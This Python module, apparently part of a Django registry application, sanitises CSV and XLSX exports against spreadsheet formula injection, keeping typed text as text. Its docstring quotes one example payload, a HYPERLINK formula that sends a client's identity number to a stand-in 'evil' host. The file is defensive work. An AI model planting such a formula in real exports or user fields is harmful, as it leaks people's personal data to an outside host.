"""Cells for the files a spreadsheet opens (CSV and XLSX): text stays text, never a formula.

A spreadsheet runs a cell that starts with =, +, -, @, a tab or a carriage return as a
formula, and `=HYPERLINK("http://evil/?"&A1,"x")` in a client's name sends the row's NIK
away when a manager opens the export (OWASP, "CSV Injection"). Every CSV and XLSX the
registry writes goes through here:

- `cell_text` / `csv_writer`: in a CSV, such a string gets a leading apostrophe, which
  spreadsheets read as "this is text";
- `xlsx_row` / `xlsx_set`: in an XLSX, such a string is written as a string cell, exactly
  as typed. openpyxl would otherwise store any string starting with "=" as a formula (and
  "#N/A" as an error).

Numbers stay numbers in both (a computed -5000 is a number; a typed "-5000" is text). Only
the file changes: the database keeps what the user typed.
"""

import csv

from django.utils.functional import Promise
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES

# OWASP's list: what makes Excel, LibreOffice and Google Sheets start a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_formula_like(value: str) -> bool:
    return value.startswith(FORMULA_STARTS)


def cell_text(value):
    """A value for a CSV cell: a string a spreadsheet would run gets a leading apostrophe;
    anything else (numbers, dates, None) is returned as it is."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and _is_formula_like(value):
        return f"'{value}"
    return value


def typed_text(value):
    """What was typed into a cell that `cell_text` wrote: the apostrophe it put before a
    formula start is dropped, so that an export imported again keeps the names as typed.
    Anything else is returned as it is."""
    if isinstance(value, str) and value.startswith("'") and _is_formula_like(value[1:]):
        return value[1:]
    return value


class _Line:
    """A file that hands back what is written: `writerow` then returns the CSV line."""

    def write(self, value):
        return value


class _CsvWriter:
    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row):
        return self._writer.writerow([cell_text(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream=None) -> _CsvWriter:
    """A `csv.writer` whose every cell goes through `cell_text`. Without a stream,
    `writerow` returns the line, for a streamed response."""
    return _CsvWriter(_Line() if stream is None else stream)


def _needs_string_cell(value) -> bool:
    # The strings openpyxl would not store as plain text. Other strings, the many, are
    # left to openpyxl's own fast path (a write-only sheet reuses one cell for them).
    return isinstance(value, str) and (_is_formula_like(value) or value in ERROR_CODES)


def xlsx_set(cell: Cell, value) -> Cell:
    """Puts `value` in `cell`, a string as a string cell (never a formula)."""
    if isinstance(value, Promise):
        value = str(value)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def xlsx_row(sheet, values) -> list:
    """`values` ready for `sheet.append()` (write-only or not): every string openpyxl
    would read as a formula or an error becomes a string cell, and cells already made
    (for a font or a number format) are checked the same way."""
    row = []
    for value in values:
        if isinstance(value, Cell):
            if isinstance(value.value, str):
                value.data_type = "s"
        elif _needs_string_cell(value) or isinstance(value, Promise):
            value = xlsx_set(WriteOnlyCell(sheet), value)
        row.append(value)
    return row
